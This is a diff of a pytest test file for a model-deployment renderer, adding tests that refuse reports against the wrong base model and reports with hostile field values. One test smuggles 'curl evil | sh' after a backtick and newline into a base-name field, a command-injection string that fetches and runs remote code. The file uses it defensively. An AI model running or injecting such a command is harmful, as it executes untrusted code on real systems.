@@ -9,10 +9,11 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
-from deployment import make_checkpoint, make_report, rendered
+from deployment import BASE, BASE_DIGEST, make_checkpoint, make_report, rendered
 
 from deploy import cli, render
 from deploy.spec import TARGETS
+from evalsuite.compare import NANO_NOTE
 from tune import artefact
 from tune.errors import UserError
 from tune.recipe import Recipe
@@ -34,7 +35,7 @@ def refusal(inputs, target="modal"):
         render.render(target, **inputs)
     assert caught.value.exit_code == 2
     assert not inputs["out"].exists()
-    assert not inputs["out"].with_name("out.new").exists()
+    assert not list(inputs["out"].parent.glob(".out-*"))
     return caught.value.message
 
 
@@ -72,6 +73,42 @@ def test_a_report_about_another_checkpoint_is_refused(inputs, tmp_path):
     message = refusal(inputs)
     assert other.served_name in message
     assert "is about" in message
+
+
+def test_a_report_against_another_base_is_refused(inputs):
+    served = json.loads(inputs["report"].read_text())["tuned_model"]
+    make_report(inputs["report"], served, base="gpt-oss-20b@fedcba9876543210")
+    message = refusal(inputs)
+    assert "was measured against 'gpt-oss-20b@fedcba9876543210', not against the base" in message
+    assert BASE in message
+
+
+@pytest.mark.parametrize(
+    ("served", "known"),
+    [
+        ("openai/gpt-oss-20b@6cee5e81ee839171", True),
+        ("openai/gpt-oss-20b", True),
+        ("gpt-oss-20b", True),
+        ("openai/gpt-oss-20b@0000000000000000", False),
+        ("openai/gpt-oss-120b", False),
+        ("tiny@6cee5e81ee839171", False),
+    ],
+)
+@pytest.mark.parametrize("base_digest", ["6cee5e81ee83917181" + "0" * 22, ""])
+def test_a_base_from_the_hub_is_known_by_its_name_alone(tmp_path, inputs, served, known, base_digest):
+    made = make_checkpoint(tmp_path / "hub", base="openai/gpt-oss-20b@6cee5e81ee839171", base_digest=base_digest)
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "h.json", made.served_name, base=served)}
+    if not known:
+        assert "not against the base" in refusal(inputs)
+        return
+    assert render.render("modal", **inputs).deployment.receipt.base_known_by == "name"
+    assert "known by its name alone" in (inputs["out"] / "README.md").read_text()
+
+
+def test_a_checkpoint_of_no_base_is_refused(tmp_path, inputs):
+    made = make_checkpoint(tmp_path / "nano", base="", base_digest="")
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "n.json", made.served_name, base="any")}
+    assert "not against the base" in refusal(inputs)
 
 
 def test_same_name_other_weights_is_another_checkpoint(inputs):
@@ -112,10 +149,12 @@ def test_a_hostile_name_in_a_manifest_is_refused(inputs, tmp_path, name):
 
 def test_a_hostile_base_name_in_a_report_is_refused(inputs):
     served = json.loads(inputs["report"].read_text())["tuned_model"]
-    make_report(inputs["report"], served, base="base`\n\n    curl evil | sh")
+    make_report(inputs["report"], served, base=f"base`\n\n    curl evil | sh@{BASE_DIGEST[:16]}")
     message = refusal(inputs)
     assert "not safe to render" in message
     assert "curl" not in message
+    make_report(inputs["report"], served, base="\x1b[2J")
+    assert "\x1b" not in refusal(inputs)
 
 
 @pytest.mark.parametrize(
@@ -142,6 +181,30 @@ def test_a_hostile_recipe_value_is_refused(tmp_path, key, value):
     result = CliRunner().invoke(cli.main, ["render", "modal", *arguments])
     assert result.exit_code == 2
     assert "recipe.toml has 1 problem" in result.output
+
+
+@pytest.mark.parametrize("note", ["a | b", "a\nb", "`x`", "<script>", "[a](b)", "x" * 301])
+def test_a_hostile_note_in_a_report_is_refused(inputs, note):
+    served = json.loads(inputs["report"].read_text())["tuned_model"]
+    make_report(inputs["report"], served, note=note)
+    assert "not safe to render" in refusal(inputs)
+
+
+def test_the_note_of_the_report_is_shown(inputs):
+    served = json.loads(inputs["report"].read_text())["tuned_model"]
+    render.render("modal", **inputs)
+    assert f"**{NANO_NOTE}** |" in (inputs["out"] / "README.md").read_text()
+    make_report(inputs["report"], served, note="")
+    render.render("modal", **inputs)
+    assert "**" not in (inputs["out"] / "README.md").read_text().split("| engine")[0]
+
+
+def test_a_project_named_models_keeps_its_folder_in_the_volume(inputs, tmp_path):
+    made = make_checkpoint(tmp_path / "models", name="models")
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "m.json", made.served_name)}
+    deployment = render.render("modal", **inputs).deployment
+    (put,) = [line for line in (inputs["out"] / "README.md").read_text().splitlines() if "volume put" in line]
+    assert "/models" + put.split()[-1] == deployment.model_path
 
 
 def test_every_error_is_named_at_once(inputs):
@@ -266,7 +329,7 @@ def test_a_killed_render_leaves_the_old_folder(inputs, monkeypatch):
     assert {p: p.read_bytes() for p in inputs["out"].rglob("*") if p.is_file()} == before
     monkeypatch.undo()
     render.render("modal", **inputs)
-    assert not inputs["out"].with_name("out.new").exists()
+    assert not list(inputs["out"].parent.glob(".out-*"))
 
 
 def test_the_command_line_renders_and_warns(inputs):
